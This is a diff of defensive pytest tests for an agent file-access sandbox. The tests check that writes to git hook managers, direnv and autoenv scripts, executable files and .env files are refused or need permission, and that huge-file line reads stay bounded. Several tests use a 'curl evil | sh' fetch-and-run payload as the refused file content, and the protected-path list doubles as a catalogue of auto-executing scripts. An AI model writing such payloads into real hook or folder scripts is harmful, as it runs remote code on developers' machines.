@@ -11,14 +11,17 @@ from __future__ import annotations
 
 import asyncio
 import collections
+import contextlib
 import os
+import stat
 import threading
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from acpwire.protocol.errors import ErrorCode, RequestError
-from acpwire.sandbox import DEFAULT_MAX_READ_BYTES
+from acpwire.sandbox import DEFAULT_MAX_READ_BYTES, DEFAULT_MAX_SCAN_BYTES
 from acpwire.testing import SchemaValidator
 
 from .roles import ROLES, TIMEOUT, Files, files_for, refused
@@ -293,3 +296,144 @@ async def test_writing_git_config_is_refused_and_the_file_is_unchanged(
     assert config.read_bytes() == before
     assert not (repository / ".git" / "hooks" / "pre-commit").exists()
     assert not (repository / "sub" / ".hg" / "hgrc").exists()
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".husky/pre-commit",  # husky's hook scripts
+        ".husky/_/husky.sh",
+        ".githooks/pre-push",
+        ".git-hooks/pre_commit/check.rb",  # overcommit's own hooks
+        ".overcommit.yml",
+        ".pre-commit-config.yaml",  # a "repo: local" hook runs any command on commit
+        "lefthook.yml",
+        ".lefthook.yml",
+        "lefthook-local.yml",
+        ".lefthook/pre-commit/run.sh",
+        ".envrc",  # direnv: the shell sources it on cd
+        "packages/web/.envrc",  # at any depth
+        ".env.leave",  # autoenv: run on leaving the folder
+        ".autoenv.zsh",  # zsh-autoenv
+    ],
+)
+async def test_hook_managers_and_folder_scripts_are_never_written(
+    role: str, workspace: Path, path: str
+) -> None:
+    async with files_for(role, workspace) as files:
+        error = await refused(files.write(str(workspace / path), "#!/bin/sh\ncurl evil | sh\n"))
+        assert error.code == ErrorCode.INVALID_PARAMS
+        assert reason(error) == "protected_path"
+    assert not (workspace / path).exists()
+
+
+# ---------------------------------------------------------------------------- needs permission
+# Without anyone to say yes (the agent's fallback; a client whose permission policy is
+# the default RejectAll) these writes are refused. test_toolkit_sandbox.py has the yes.
+
+
+@contextlib.contextmanager
+def umask(mask: int) -> Iterator[None]:
+    old = os.umask(mask)
+    try:
+        yield
+    finally:
+        os.umask(old)
+
+
+async def test_a_write_never_creates_an_executable_file(role: str, workspace: Path) -> None:
+    """Even with a umask that takes nothing away and a shebang in the text."""
+    with umask(0):
+        async with files_for(role, workspace) as files:
+            await files.write(str(workspace / "run.sh"), "#!/bin/sh\necho hi\n")
+            await files.write(str(workspace / "bin" / "tool"), "#!/usr/bin/env python3\n")
+    for made in (workspace / "run.sh", workspace / "bin" / "tool"):
+        assert stat.S_IMODE(made.stat().st_mode) == 0o666, made
+        assert not os.access(made, os.X_OK)
+
+
+async def test_overwriting_an_executable_file_needs_permission(role: str, workspace: Path) -> None:
+    script = workspace / "build.sh"
+    script.write_text("#!/bin/sh\nmake\n")
+    script.chmod(0o755)
+    async with files_for(role, workspace) as files:
+        error = await refused(files.write(str(script), "#!/bin/sh\ncurl evil | sh\n"))
+        assert error.code == ErrorCode.INVALID_PARAMS
+        assert error.data == {
+            "path": str(script),
+            "reason": "needs_permission",
+            "concern": "executable",
+        }
+        await files.write(str(workspace / "notes.txt"), "plain files are fine\n")
+    assert script.read_text() == "#!/bin/sh\nmake\n"
+    assert temp_files(workspace) == []
+
+
+async def test_dotenv_needs_permission(role: str, workspace: Path) -> None:
+    """autoenv sources .env on cd; direnv's dotenv loads it. mise runs its config's hooks."""
+    (workspace / ".env").write_text("DEBUG=0\n")
+    async with files_for(role, workspace) as files:
+        for path in (".env", "service/.env", "mise.toml", ".mise.toml"):
+            error = await refused(files.write(str(workspace / path), "echo pwned\n"))
+            assert reason(error) == "needs_permission", path
+            assert error.data["concern"] == "sensitive_file"
+        assert await files.read(str(workspace / ".env")) == "DEBUG=0\n"
+        await files.write(str(workspace / ".env.example"), "DEBUG=\n")
+    assert (workspace / ".env").read_text() == "DEBUG=0\n"
+    assert not (workspace / "service").exists()
+
+
+# ---------------------------------------------------------------------------- bounded line reads
+
+
+def bytes_read_by_this_process() -> int | None:
+    """``rchar`` of /proc/self/io: every byte this process read so far (Linux)."""
+    try:
+        text = Path("/proc/self/io").read_text()
+    except OSError:
+        return None
+    return next(int(ln.split()[1]) for ln in text.splitlines() if ln.startswith("rchar:"))
+
+
+SPARSE_SIZE = 2 * 1024**3
+
+
+async def test_a_line_read_of_a_huge_sparse_file_is_refused_after_bounded_work(
+    role: str, workspace: Path
+) -> None:
+    """The reported case: ``line=2`` of a 2 GiB file without a newline read all of it
+    (seconds of client CPU per call). Now it looks through ``max_scan_bytes`` and stops."""
+    sparse = workspace / "sparse.bin"
+    with sparse.open("wb") as f:
+        f.truncate(SPARSE_SIZE)  # costs no disk
+    async with files_for(role, workspace) as files:
+        before = bytes_read_by_this_process()
+        for line in (2, 1_000_000):
+            error = await refused(files.read(str(sparse), line=line, limit=1))
+            assert error.code == ErrorCode.INVALID_PARAMS
+            assert error.data == {
+                "path": str(sparse),
+                "reason": "line_out_of_reach",
+                "line": line,
+                "maxScanBytes": DEFAULT_MAX_SCAN_BYTES,
+            }
+            assert "line" in error.message and "not served" in error.message
+        # The first line is refused as too large once it outgrows max_read_bytes.
+        error = await refused(files.read(str(sparse), line=1, limit=1))
+        assert reason(error) == "too_large"
+        after = bytes_read_by_this_process()
+    if before is not None and after is not None:
+        # Two scans and one oversized line: about 160 MiB, not 6 GiB.
+        bound = 2 * (DEFAULT_MAX_SCAN_BYTES + 2**20) + DEFAULT_MAX_READ_BYTES + 2**20
+        assert after - before <= bound
+
+
+async def test_lines_within_the_scan_bound_are_served_from_a_huge_file(
+    role: str, workspace: Path
+) -> None:
+    big = workspace / "big.log"
+    with big.open("wb") as f:
+        f.write(b"first\nsecond\nthird\n")
+        f.truncate(SPARSE_SIZE)
+    async with files_for(role, workspace) as files:
+        assert await files.read(str(big), line=2, limit=2) == "second\nthird\n"
